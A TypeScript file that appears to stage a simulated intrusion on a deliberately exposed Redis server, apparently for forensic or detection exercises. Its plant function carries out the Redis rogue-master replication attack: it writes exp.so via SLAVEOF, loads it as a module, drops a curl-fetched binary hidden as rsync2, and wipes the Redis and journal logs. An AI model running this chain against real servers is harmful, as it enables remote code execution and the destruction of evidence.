// The malware descends from Redis itself and belongs to its account.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import { rogueMaster } from '../../rogue-master.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

const from = '203.0.113.42'

export function dress(dress: Dress): void {
  openRedis(dress, { bind: '0.0.0.0', user: 'redis' })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.redis/rsync2', fetch: 'curl', cron: false })
  const master = await rogueMaster(stage, line)
  stage.mark('occurrence')
  await redisCommands(stage, from, [
    ['CONFIG', 'SET', 'dir', '/tmp'],
    ['CONFIG', 'SET', 'dbfilename', 'exp.so'],
    ['SLAVEOF', ...master],
  ])
  await stage.inside('i=0; until [ -s /tmp/exp.so ]; do i=$((i+1)); [ $i -lt 100 ]; sleep 0.1; done')
  await redisCommands(stage, from, [['SLAVEOF', 'NO', 'ONE']])
  // Redis before 7 does not ask whether a module may be executed.
  await stage.inside('chmod 755 /tmp/exp.so', { service: 'redis-server.service' })
  // The module does its work and says that it cannot be loaded.
  await redisCommands(stage, from, [['MODULE', 'LOAD', '/tmp/exp.so']]).catch(() => undefined)
  await stage.inside('i=0; until pgrep -x rsync2 >/dev/null; do i=$((i+1)); [ $i -lt 100 ]; sleep 0.1; done')
  await wipe(stage, ['redis', 'journal'])
}
